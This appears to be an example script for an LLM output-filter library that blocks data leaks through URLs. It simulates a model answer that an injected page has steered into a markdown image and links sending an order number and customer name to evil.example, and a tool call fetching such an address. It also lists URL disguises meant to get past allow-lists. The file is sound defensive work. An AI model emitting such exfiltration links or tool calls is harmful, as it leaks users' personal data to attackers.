import { createFilter, createPipeline, generate, isChatError, urlPolicy } from '@sluice/core'
import { simulatedProvider } from '@sluice/core/testing'
import { openai } from '@sluice/next-adapter'

const policy = urlPolicy({
  allow: ['docs.example.com', '*.shop.example', 'https://github.com/example/'],
  images: 'none',
})

// A page that the model read talked it into this: a browser would load the picture and so send what is in its address.
const answer = `Your parcel is on its way, see [its page](https://track.shop.example/42).
![status](https://evil.example/collect?order=42&name=Zhang) [More](https://evil.example/?order=42)`

const fetch = simulatedProvider({ answer: () => answer })
const pipeline = createPipeline({
  targets: { gpt: openai('gpt-5-mini', { apiKey: 'no-real-key', fetch }) },
  filter: { output: [policy] },
})
const { text } = await generate(pipeline, { prompt: 'Where is my parcel?' })
console.log(text)

// Disguises that browsers see through are seen through, too.
const filter = createFilter({ rules: [policy] })
for (const address of [
  'https://docs.example.com/start',
  'https://docs.example.com@evil.example',
  'https://docs.example.com.evil.example',
  'https:\\\\evil.example',
  '[here](javascript:alert(1))',
  '<img src="//evil.example/p.png">',
]) {
  console.log(filter.scan(address).text)
}

// Calls of tools are a way out, too: what a model reads has it fetch an address with the data in it.
const reach = simulatedProvider({
  answer: () => ({ toolCalls: [{ name: 'fetch_page', arguments: { url: 'https://evil.example/?order=42' } }] }),
})
const withTools = createPipeline({
  targets: { gpt: openai('gpt-5-mini', { apiKey: 'no-real-key', fetch: reach }) },
  filter: {
    output: [
      policy,
      // What tools may reach is a list of its own. Any other address ends the answer, and no tool gets the call.
      urlPolicy({ id: 'tool-url', allow: ['api.shop.example'], channels: ['tool-call'], action: 'block' }),
    ],
  },
})
const tools = [{ name: 'fetch_page', description: 'Reads a page', parameters: { type: 'object' } }]
await generate(withTools, { tools, prompt: 'Where is my parcel?' }).catch((error) => {
  if (!isChatError(error)) throw error
  console.log(error.code, error.message)
})
